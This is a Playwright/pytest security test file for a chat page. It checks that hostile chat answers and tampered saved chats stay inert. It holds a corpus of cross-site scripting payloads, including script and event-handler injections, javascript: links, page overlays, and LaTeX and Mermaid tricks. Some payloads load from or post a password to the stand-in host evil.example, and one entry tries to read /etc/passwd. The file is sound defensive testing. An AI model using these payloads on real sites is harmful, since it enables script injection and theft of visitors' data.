"""Answers that attack the page stay text: nothing runs, nothing loads, nothing is submitted, nothing is covered."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Locator, expect

from app.web.security import inert
from tests.app.sites import Site
from tests.browser.conftest import Visitor, elsewhere, visiting

Visit = Callable[..., Visitor]

EVIL = "https://evil.example"
RUN = "window.hacked=1;alert(1)"

HOSTILE = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": f"<script src={EVIL}/x.js></script>",
    "script in pieces": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script in capitals and a slash": f"<SCRIPT/x>{RUN}</SCRIPT/x>",
    "image handler": f"<img src=x onerror='{RUN}'>",
    "image handler without spaces": f"<img/src/onerror={RUN}>",
    "image from elsewhere": f"<img src={EVIL}/a.png srcset={EVIL}/b.png>",
    "markdown image": f"![picture]({EVIL}/a.png)",
    "markdown image by reference": f"![picture][1]\n\n[1]: {EVIL}/a.png",
    "markdown image of this server": "![picture](/logout)",
    "markdown image, nested": f"[![a]({EVIL}/a.png)]({EVIL})",
    "markdown image with data": "![p](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "markdown title": f'[x]({EVIL} "&quot; onmouseover={RUN} ")',
    "javascript link": f"[click](javascript:{RUN})",
    "javascript link in disguise": f"[click](&#106;avascript:{RUN})\n\n[b](java\tscript:{RUN})\n\n<javascript:{RUN}>",
    "javascript link, html": f"<a href='javascript:{RUN}'>click</a>",
    "data link": f"[click](data:text/html,<script>{RUN}</script>)",
    "vbscript link": "[click](vbscript:msgbox(1))",
    "svg": f"<svg onload='{RUN}'><script>{RUN}</script></svg>",
    "svg animation": f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s></svg>",
    "svg use": f"<svg><use href='{EVIL}/a.svg#x'/></svg>",
    "math": f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    "iframe": f"<iframe src='{EVIL}' srcdoc='<script>{RUN}</script>'></iframe>",
    "object and embed": f"<object data='{EVIL}'></object><embed src='{EVIL}'>",
    "form": f"<form action='{EVIL}'><input name=password autofocus onfocus='{RUN}'><button>Log in</button></form>",
    "button of no form": f"<button formaction='{EVIL}' form=x onclick='{RUN}'>Continue</button>",
    "meta": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "base": f"<base href='{EVIL}/'>",
    "link": f"<link rel=stylesheet href='{EVIL}/a.css'><link rel=prefetch href='{EVIL}'>",
    "style": f"<style>body{{display:none}} @import '{EVIL}/a.css';</style>",
    "cover": "<div style='position:fixed;inset:0;z-index:99999;background:red'>cover</div>",
    "cover in markdown": "**<span style='position:fixed;inset:0;background:red'>cover</span>**",
    "background": f"<div style=\"background:url('{EVIL}/a.png')\">x</div>",
    "classes of the page": "<div class='toast-wrap' id='message'>x</div>",
    "media": f"<video autoplay src={EVIL}/a.mp4 poster={EVIL}/a.png></video><audio src={EVIL}/a.mp3></audio>",
    "details": f"<details open ontoggle='{RUN}'>x</details>",
    "marquee": f"<marquee onstart='{RUN}'>x</marquee>",
    "template": f"<template><script>{RUN}</script></template>",
    "comment": f"<!--><img src=x onerror={RUN}>-->",
    "comment, bogus": f"<!x><?php <img src=x onerror={RUN}> ?>",
    "cdata": f"<![CDATA[<img src=x onerror={RUN}>]]>",
    "title that closes": f"<title></title><img src=x onerror={RUN}>",
    "mutation": f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    "entities": f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
    "code fence": f"```html\n<script>{RUN}</script><img src=x onerror={RUN}>\n```",
    "code fence that closes": f"```\n</code></pre><img src=x onerror={RUN}>\n```",
    "code fence with a name": f"```\"><img/src/onerror={RUN}>\nx\n```",
    "inline code": f"`<img src=x onerror={RUN}>`",
    "indented code": f"    <script>{RUN}</script>",
    "table": f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    "mermaid": f"```mermaid\ngraph TD\n A[\"<img src=x onerror={RUN}>\"]\n click A \"javascript:{RUN}\"\n```",
    "mermaid with entities": f"```mermaid\ngraph TD\n A[\"&lt;img src=x onerror={RUN}&gt;\"]\n```",
    "mermaid, html": f"<div class=mermaid>graph TD\n A[<img src=x onerror={RUN}>]</div>",
    "latex link": rf"$\href{{javascript:{RUN}}}{{x}}$ and $$\url{{javascript:{RUN}}}$$",
    "latex image": rf"$\includegraphics{{{EVIL}/a.png}}$",
    "latex html": r"$\htmlStyle{position:fixed;inset:0;background:red}{x} \htmlClass{toast-wrap}{y}$",
    "latex html text": rf"$\text{{<img src=x onerror={RUN}>}}$ $<img src=x onerror={RUN}>$",
    "latex huge": r"$\rule{9999em}{9999em}$ $\kern{9999em} x$",
    "latex loop": r"$\def\a{\a\a}\a$",
    "translation marker": '__i18n__{"__type__":"translation_metadata","key":"<img src=x onerror=alert(1)>"}',
    "template marker": "${alert(1)} {{constructor.constructor('alert(1)')()}} {@html '<script>alert(1)</script>'}",
    "quotes without end": "> " * 3000 + "deep",
    "lists without end": "\n".join("  " * depth + "- x" for depth in range(500)),
    "brackets without end": "[" * 5000 + "(" * 5000,
    "tags without end": "<div>" * 2000,
    "emphasis without end": "*a **b " * 1000,
}  # fmt: skip

FORBIDDEN = "script, iframe, object, embed, form, style, link, meta, base, video, audio, img, input, svg use, .mermaid"


@pytest.fixture(scope="module")
def victim(server: Site, chromium: Browser) -> Iterator[Visitor]:
    """A visitor whose saved chat holds all attacks, each as an answer of its own."""
    with visiting(chromium) as make:
        victim = make(server.url)
        save_chat(victim, [{"role": "assistant", "content": attack} for attack in HOSTILE.values()])
        victim.open(server.url)
        victim.chats.locator(".open").click()
        expect(victim.answers).to_have_count(len(HOSTILE))
        victim.page.wait_for_timeout(500)
        yield victim


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_answer_stays_text(victim: Visitor, name: str) -> None:
    answer = victim.answers.nth(list(HOSTILE).index(name))
    assert_inert(victim, answer)
    click_all_links(victim, answer)
    assert_whole(victim)
    assert elsewhere(victim.requests) == []
    assert victim.trouble == []


@pytest.mark.parametrize(
    "name", ["script", "image handler", "markdown image", "form", "cover", "mermaid", "latex link", "latex html"]
)
def test_a_hostile_answer_stays_text_while_it_is_written(site: Site, visit: Visit, name: str) -> None:
    """Piece by piece, so that every beginning of the attack is on the page once."""
    site.stream.answer = lambda question: HOSTILE[name]
    site.stream.delay = 0.002
    visitor = visit(site.url)
    visitor.ask("attack")
    assert_inert(visitor, visitor.page.locator("#transcript .message"))
    assert_whole(visitor)


def assert_whole(visitor: Visitor) -> None:
    """The page still works: its own parts are where they were, and nothing lies over them."""
    expect(visitor.box).to_be_visible()
    on_top = visitor.page.evaluate(
        """() => {
          const box = document.querySelector("#message textarea").getBoundingClientRect();
          const top = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
          return Boolean(top.closest("#message"));
        }"""
    )
    assert on_top, "something covers the message box"


def assert_inert(visitor: Visitor, messages: Locator) -> None:
    assert visitor.page.evaluate("window.hacked") is None
    assert messages.locator(FORBIDDEN).evaluate_all("all => all.map(one => one.outerHTML)") == []
    handlers = messages.evaluate_all(
        """messages => messages.flatMap(message => [...message.querySelectorAll("*")])
             .flatMap(one => [...one.attributes])
             .filter(each => each.name.startsWith("on") || /^\\s*(javascript|data|vbscript):/i.test(each.value))
             .map(each => `${each.name}=${each.value}`)"""
    )
    assert handlers == []
    links = messages.locator("a").evaluate_all("all => all.map(one => [one.rel, one.target, one.href])")
    assert all("noopener" in rel and target == "_blank" for rel, target, href in links if href), links


def click_all_links(visitor: Visitor, messages: Locator) -> None:
    """A link without a destination does nothing; those of http are left alone, as they leave the page."""
    for link in messages.locator("a").all():
        if not (link.get_attribute("href") or "").startswith(("http", "/")):
            link.click(force=True, timeout=2000)
    assert visitor.page.evaluate("window.hacked") is None


def test_the_visitors_own_words_are_inert_too(site: Site, visit: Visit) -> None:
    visitor = visit(site.url)
    for text in (HOSTILE["image handler"], HOSTILE["form"], HOSTILE["markdown image"]):
        visitor.ask(text)
    assert_inert(visitor, visitor.questions)


def save_chat(visitor: Visitor, messages: list[dict[str, Any]], title: str = "saved") -> None:
    """Put a chat into the visitor's browser that the page never saw."""
    chat = {"title": title, "updated": 1, "messages": messages}
    visitor.page.evaluate("([key, chat]) => localStorage.setItem(key, chat)", [f"glm-chat:{title}", json.dumps(chat)])


def test_a_saved_chat_that_was_tampered_with_is_inert(site: Site, visit: Visit) -> None:
    visitor = visit(site.url)
    attack = HOSTILE["image handler"] + HOSTILE["script"] + HOSTILE["markdown image"]
    save_chat(visitor, [{"role": role, "content": attack} for role in ("user", "assistant")], title=attack)
    file = {"path": "/etc/passwd", "meta": {"_type": "gradio.FileData"}}
    save_chat(visitor, [{"role": "assistant", "content": file}], title="z")
    visitor.page.evaluate("localStorage.setItem('glm-chat:y', 'no JSON')")
    visitor.open(site.url)
    visitor.chats.filter(has_text="img").locator(".open").click()
    expect(visitor.answers).to_have_count(1)
    assert_inert(visitor, visitor.page.locator("#transcript .message"))
    assert visitor.page.locator("#saved-chats").locator(FORBIDDEN).count() == 0
    visitor.chats.filter(has_text="z").last.locator(".open").click()
    visitor.page.wait_for_timeout(300)
    assert "root:" not in visitor.page.content()


def test_the_walls_behind_the_first_hold_alone(site: Site, visit: Visit, monkeypatch: pytest.MonkeyPatch) -> None:
    """Attacks that slipped past `inert` meet Gradio's sanitizer and the policy of the page."""
    monkeypatch.setattr("app.web.chat.inert", lambda text: text)
    visitor = visit(site.url)
    failures: dict[str, str | None] = {}
    visitor.context.on("requestfailed", lambda request: failures.update({request.url: request.failure}))
    attacks = [attack for name, attack in HOSTILE.items() if "without end" not in name]
    save_chat(visitor, [{"role": "assistant", "content": attack} for attack in attacks])
    visitor.open(site.url)
    visitor.chats.locator(".open").click()
    expect(visitor.answers).to_have_count(len(attacks))
    visitor.page.wait_for_timeout(500)
    assert visitor.page.evaluate("window.hacked") is None
    tried = elsewhere(visitor.requests)
    assert tried, "without the first wall the attacks must at least try to load something"
    assert {failures.get(url) for url in tried} == {"csp"}
    visitor.requests.clear()


def test_a_script_that_is_not_the_pages_own_does_not_run(site: Site, visit: Visit) -> None:
    visitor = visit(site.url)
    visitor.page.evaluate(
        """() => {
          const script = document.createElement("script");
          script.textContent = "window.hacked = 1";
          document.body.append(script);
          document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.hacked = 2'>");
        }"""
    )
    visitor.page.wait_for_timeout(300)
    assert visitor.page.evaluate("window.hacked") is None


def test_the_corpus_is_hostile() -> None:
    """Each text must be one that `inert` changes, or one that the page shows as it is without harm."""
    unchanged = {name for name, text in HOSTILE.items() if inert(text) == text}
    assert unchanged <= {
        "markdown title", "javascript link", "data link", "vbscript link", "entities", "latex link", "latex image",
        "latex html", "latex huge", "latex loop", "template marker", "quotes without end",
        "lists without end", "brackets without end", "emphasis without end",
    }  # fmt: skip
